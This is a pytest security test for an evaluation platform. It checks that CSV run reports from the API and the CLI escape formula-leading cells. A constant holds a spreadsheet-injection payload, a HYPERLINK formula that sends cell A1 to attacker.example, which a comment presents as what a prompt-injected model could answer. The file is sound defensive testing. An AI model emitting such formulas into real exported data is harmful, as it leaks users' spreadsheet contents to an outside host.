"""The run report's CSV opens in a spreadsheet as text: model answers cannot become formulas."""

from __future__ import annotations

import csv
import io
import os
import subprocess
from collections.abc import Iterator
from contextlib import ExitStack
from dataclasses import dataclass
from pathlib import Path

import httpx
import pytest

from plumbline.child_process import plumbline_command
from simulator.process import SimulatorProcess
from tests.security.evals import import_and_run
from tests.support.databases import postgres_database
from tests.support.gateway_process import GatewayProcess, gateway_config, issue_key
from tests.support.scenarios import simulator_config

pytestmark = pytest.mark.xdist_group("security-csv")
# What a prompt-injected model could answer: a formula that sends the sheet to an attacker.
FORMULA = '=HYPERLINK("http://attacker.example/?leak="&A1,"open")'
INJECTED = {
    "name": "injected",
    "match": "(?i)payment link",
    "answers": [{"text": FORMULA, "p": 1.0}],
}
SUITE = """\
name: injected
team: gamma
model: tiny
sampling: {temperature: 1.0, max_tokens: 256, seed_policy: per_sample, seed: 3}
paraphrases_per_question: 2
samples_per_paraphrase: 4
threshold: 0.9
questions:
  - id: "q1"
    text: What is the payment link?
    answer: {type: regex, pattern: "(.*)", normalize: false}
    expected: "@SUM(1+1)"
    paraphrases:
      - "What payment link applies?"
"""


@dataclass(frozen=True)
class ScoredRun:
    """A finished run of the injected suite, and where to read it."""

    gateway: GatewayProcess
    key: str
    database_url: str
    run_id: int


@pytest.fixture(scope="module")
def scored() -> Iterator[ScoredRun]:
    """A gateway whose model answers with a formula, after a run of the suite."""
    with ExitStack() as exits:
        simulator = exits.enter_context(SimulatorProcess(simulator_config(scenarios=[INJECTED])))
        url = exits.enter_context(postgres_database("plumbline_csv"))
        key = issue_key(url, "gamma")
        evals = {"PLUMBLINE_EVAL__API_KEY": issue_key(url, "platform", admin=True)}
        process = GatewayProcess(gateway_config(simulator.base_url), url, env=evals)
        exits.enter_context(process)
        with _client(process, key) as client:
            _, run_id = import_and_run(client, SUITE)
        yield ScoredRun(process, key, url, run_id)


def _client(process: GatewayProcess, key: str) -> httpx.Client:
    headers = {"Authorization": f"Bearer {key}"}
    return httpx.Client(base_url=process.url, headers=headers, timeout=60)


def _assert_escaped(text: str) -> None:
    rows = list(csv.DictReader(io.StringIO(text)))
    assert rows, text
    row = rows[0]
    assert row["modal_answer"] == "'" + FORMULA
    assert row["expected_answer"] == "'@SUM(1+1)"
    # No text cell of any row starts as a spreadsheet formula; numbers stay plain numbers.
    texts = [cell for each in rows for cell in each.values() if cell and not _number(cell)]
    assert not [c for c in texts if c[0] in "=+-@\t\r"], texts
    assert float(row["agreement"]) == pytest.approx(1.0)


def _number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


def test_formula_cells_are_escaped_in_the_api_csv_report(scored: ScoredRun) -> None:
    with _client(scored.gateway, scored.key) as client:
        report = client.get(f"/api/evals/runs/{scored.run_id}/report", params={"format": "csv"})
    assert report.status_code == 200, report.text
    _assert_escaped(report.text)


def test_formula_cells_are_escaped_in_the_cli_csv_export(scored: ScoredRun, tmp_path: Path) -> None:
    command = plumbline_command(
        "eval", "report", str(scored.run_id), "--format", "csv", "--out", str(tmp_path)
    )
    env = {**os.environ, "PLUMBLINE_DATABASE__URL": scored.database_url}
    done = subprocess.run(command, env=env, capture_output=True, text=True, timeout=120)
    assert done.returncode == 0, done.stderr
    _assert_escaped((tmp_path / "questions.csv").read_text())
    paraphrases = (tmp_path / "paraphrases.csv").read_text()
    assert "'=HYPERLINK(" in paraphrases and "\n=" not in paraphrases
